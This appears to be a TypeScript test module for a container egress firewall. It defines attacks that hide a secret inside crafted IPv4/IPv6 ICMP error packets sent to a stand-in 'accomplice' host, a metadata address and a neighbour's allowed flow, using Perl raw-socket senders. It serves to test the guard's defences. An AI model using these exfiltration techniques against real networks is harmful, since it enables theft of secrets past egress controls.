import type { Attack, Played } from './attack.ts'
import type { Attacker } from './attacker.ts'
import { join, u16, u32 } from './bytes.ts'
import { describeFrames } from './describe.ts'
import { frame } from './frame.ts'
import { datagram, type Ends, echo, icmp, icmpNumber, ip, segment, TCP_FLAG } from './packet.ts'
import type { Scene } from './scene.ts'
import { fromInternet } from './uplink.ts'
import { HOST, INET } from '../topology.ts'

const ACCOMPLICE = { 4: '203.0.113.66', 6: '2001:db8:f::66' } as const
const UPLINK = { 4: HOST.address, 6: HOST.address6 } as const

/** Unreachable, time exceeded, parameter problem, and packet too big (fragmentation needed). */
const ERRORS = {
  4: [
    [3, 1, 0],
    [11, 0, 0],
    [12, 0, 0],
    [3, 4, 1280],
  ],
  6: [
    [1, 0, 0],
    [3, 0, 0],
    [4, 0, 0],
    [2, 0, 1280],
  ],
} as const

/** An error about a packet, with what is quoted of it made longer by a secret. */
function errorsAbout(ends: Ends, quoted: Buffer): readonly Buffer[] {
  const family = ends.dst.includes(':') ? 6 : 4
  return ERRORS[family].map(([type, code, rest]) =>
    ip({ ...ends, protocol: icmpNumber(ends), payload: icmp(ends, type, code, join(u32(rest), quoted)) }),
  )
}

/** Pings the host as anybody on the internet may; the exchange stays in the host's table. */
async function pingFromInternet({ lab }: Scene, family: 4 | 6, id: number): Promise<void> {
  const packet = echo({ src: ACCOMPLICE[family], dst: UPLINK[family] }, Buffer.from('hello'), id)
  const bytes = frame(await fromInternet(lab), packet)
  await lab.internet(['perl', '-e', SEND_FRAME], { input: bytes.toString('hex') })
}

const SEND_FRAME = `
my $hex = <STDIN>;
socket my $socket, 17, 3, 0 or die "socket: $!";
my $request = pack 'Z16 x24', 'host0';
ioctl $socket, 0x8933, $request or die "host0: $!";
send $socket, pack('H*', $hex), 0, pack('S n i S C C a8', 17, 0, unpack('x16 i', $request), 0, 0, 6, '') or die "send: $!";
`

/** The reply of the host, as the error quotes it; what follows it is what leaves. */
const quotedReply = (family: 4 | 6, id: number, secret: Buffer): Buffer => {
  const ends = { src: UPLINK[family], dst: ACCOMPLICE[family] }
  const message = icmp(ends, family === 4 ? 0 : 129, 0, join(u16(id, 1), Buffer.from('hello'), secret))
  return ip({ ...ends, protocol: icmpNumber(ends), payload: message })
}

/** The request of the accomplice, for an error that goes to who asked. */
const quotedRequest = (family: 4 | 6, id: number, secret: Buffer): Buffer =>
  echo({ src: ACCOMPLICE[family], dst: UPLINK[family] }, join(Buffer.from('hello'), secret), id)

async function counted(scene: Scene, attacker: Attacker, packets: readonly Buffer[]): Promise<Played> {
  const far = await scene.farEnd()
  const sent = await attacker.send(packets.map((packet) => frame(attacker.ethernet(), packet)))
  const { count, first } = await far.count()
  return { sent, arrived: count, details: describeFrames(first) }
}

async function seated(scene: Scene): Promise<Attacker> {
  const place = await scene.network('related')
  const attacker = await scene.attacker('related', place)
  await scene.guard()
  return attacker
}

/** The kernel calls an ICMP error related to whatever connection it quotes, whoever sends it and wherever it goes. */
const aboutPing = (family: 4 | 6): Attack => ({
  name: `related-ping${family}`,
  seat: 'accomplice on the internet',
  words: `pings the host; a container sends it IPv${family} ICMP errors that quote the exchange`,
  shows: 'an ICMP error carries the payload out',
  ...(family === 4 ? { quick: true } : {}),
  async play(scene) {
    const attacker = await seated(scene)
    await pingFromInternet(scene, family, 77)
    const ends = { src: attacker.own(family), dst: ACCOMPLICE[family] }
    return counted(scene, attacker, [
      ...errorsAbout(ends, quotedReply(family, 77, scene.secret)),
      ...errorsAbout(ends, quotedRequest(family, 77, scene.secret)),
    ])
  },
})

const METADATA_PORT = 80

/** A connection of the host's own that stays open. */
async function hostConnects({ lab, onEnd }: Scene, address: string, port: number): Promise<number> {
  const service = lab.service('host', ['perl', '-MSocket', '-e', CONNECT, address, String(port)])
  onEnd(() => service.stop('SIGKILL'))
  await lab.waitFor('connected', () => service.exitCode !== undefined || service.log.endsWith('\n'))
  return Number(service.log)
}

const CONNECT = `
$| = 1;
socket my $socket, PF_INET, SOCK_STREAM, 0 or die "socket: $!";
connect $socket, pack_sockaddr_in($ARGV[1], inet_aton($ARGV[0])) or die "connect: $!";
my ($port) = unpack_sockaddr_in(getsockname $socket);
print "$port\\n";
sleep 30;
`

const aboutMetadata: Attack = {
  name: 'related-metadata',
  seat: 'container',
  words: 'ICMP errors to metadata that quote the host’s own connection to it',
  shows: 'a packet of a container reaches metadata',
  quick: true,
  async play(scene) {
    const attacker = await seated(scene)
    const port = await hostConnects(scene, INET.metadata, METADATA_PORT)
    const reply = { src: INET.metadata, dst: HOST.address }
    const quoted = segment(reply, METADATA_PORT, port, TCP_FLAG.ack, scene.secret)
    return counted(scene, attacker, errorsAbout({ src: attacker.address, dst: INET.metadata }, quoted))
  },
}

const PAGE = '203.0.113.10'

/** Another container's flow, which is allowed: an error about it that its own far end never sent, and one out in its name. */
const aboutNeighbour: Attack = {
  name: 'related-neighbour',
  seat: 'container',
  words:
    'ICMP errors that quote an allowed flow of another container, to the far end of that flow and to the accomplice',
  shows: 'an ICMP error carries the payload out',
  async play(scene) {
    const place = await scene.network('related')
    const attacker = await scene.attacker('related', place)
    const neighbour = await scene.attacker('related', place, { name: 'honest' })
    await scene.guard(`allow: [{ cidr: ${PAGE}/32, ports: [9000/udp] }]
guard: { hostServices: [] }
policies:
  sealed: { match: { container: "sealed*" }, inherit: false }
`)
    await neighbour.send([
      frame(
        neighbour.ethernet(),
        datagram({ src: neighbour.address, dst: PAGE }, 5000, 9000, Buffer.from('hello')),
      ),
    ])
    const asSent = datagram({ src: neighbour.address, dst: PAGE }, 5000, 9000, scene.secret)
    const asReplied = datagram({ src: PAGE, dst: neighbour.address }, 9000, 5000, scene.secret)
    return counted(
      scene,
      attacker,
      [PAGE, ACCOMPLICE[4]].flatMap((dst) =>
        [asSent, asReplied].flatMap((quoted) => errorsAbout({ src: attacker.address, dst }, quoted)),
      ),
    )
  },
}

export const RELATED: readonly Attack[] = [aboutPing(4), aboutPing(6), aboutMetadata, aboutNeighbour]
